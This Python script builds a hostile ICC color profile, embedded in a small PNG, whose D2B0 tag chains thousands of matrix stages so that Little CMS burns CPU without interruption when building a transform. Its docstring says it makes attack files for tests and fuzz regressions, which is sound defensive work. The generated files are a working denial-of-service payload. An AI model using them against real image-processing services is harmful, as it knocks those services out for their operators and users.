#!/usr/bin/env python3
"""Builds ICC-profile CPU bombs for issue 21 #2 (attack files, for tests and fuzz regressions).

An RGB display profile whose D2B0 tag (Little CMS prefers it over A2B0) is a multiProcessElement
('mpet') chain of N 3x3 matrix ('matf') elements. Little CMS evaluates the whole chain at every
point of the grid it samples when it builds a transform, so the cost grows with N and cannot be
interrupted. Usage: make_hostile_icc.py OUT.png [N] [--icc OUT.icc]
The PNG is 16x16 RGB with the profile in iCCP (zlib-compressed: ~1 MB of profile in ~40 kB).
"""
import struct, sys, zlib

def be32(v): return struct.pack(">I", v)

def matf_element():
    # sig, reserved, in=3, out=3, then 9 matrix floats + 3 offsets (identity).
    m = [1.0, 0, 0, 0, 1.0, 0, 0, 0, 1.0, 0, 0, 0]
    return b"matf" + b"\0" * 4 + struct.pack(">HH", 3, 3) + struct.pack(">12f", *m)

def mpet(n):
    elem = matf_element()
    head = 16 + 8 * n
    body = b"mpet" + b"\0" * 4 + struct.pack(">HHI", 3, 3, n)
    pos = b"".join(struct.pack(">II", head + i * len(elem), len(elem)) for i in range(n))
    return body + pos + elem * n

def xyz(x, y, z):
    s = lambda v: struct.pack(">i", int(round(v * 65536)))
    return b"XYZ " + b"\0" * 4 + s(x) + s(y) + s(z)

def curv_gamma(g):
    return b"curv" + b"\0" * 4 + be32(1) + struct.pack(">H", int(g * 256)) + b"\0\0"

def profile(n):
    tags = [
        (b"wtpt", xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", xyz(0.4361, 0.2225, 0.0139)),
        (b"gXYZ", xyz(0.3851, 0.7169, 0.0971)),
        (b"bXYZ", xyz(0.1431, 0.0606, 0.7141)),
        (b"rTRC", curv_gamma(2.2)), (b"gTRC", curv_gamma(2.2)), (b"bTRC", curv_gamma(2.2)),
        (b"D2B0", mpet(n)),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table, data = b"", b""
    for sig, body in tags:
        while (offset + len(data)) % 4: data += b"\0"
        table += sig + be32(offset + len(data)) + be32(len(body))
        data += body
    size = offset + len(data)
    header = (be32(size) + b"lcms" + be32(0x04300000) + b"mntr" + b"RGB " + b"XYZ " + b"\0" * 12 +
              b"acsp" + b"\0" * 28 + xyz(0.9642, 1.0, 0.8249)[8:] + b"\0" * 4 + b"\0" * 16 + b"\0" * 28)
    assert len(header) == 128, len(header)
    return header + be32(len(tags)) + table + data

def chunk(kind, body):
    return be32(len(body)) + kind + body + be32(zlib.crc32(kind + body) & 0xFFFFFFFF)

def png(icc, w=16, h=16):
    rows = b"".join(b"\0" + b"".join(bytes((x * 16 % 256, y * 16 % 256, 128)) for x in range(w)) for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"iCCP", b"bomb\0\0" + zlib.compress(icc, 9)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))

if __name__ == "__main__":
    args = sys.argv[1:]
    icc_out = None
    if "--icc" in args:
        i = args.index("--icc"); icc_out = args[i + 1]; del args[i:i + 2]
    out = args[0]
    n = int(args[1]) if len(args) > 1 else 15000
    icc = profile(n)
    if icc_out:
        open(icc_out, "wb").write(icc)
    open(out, "wb").write(png(icc))
    print(f"{out}: profile {len(icc)} bytes, {n} matf stages")
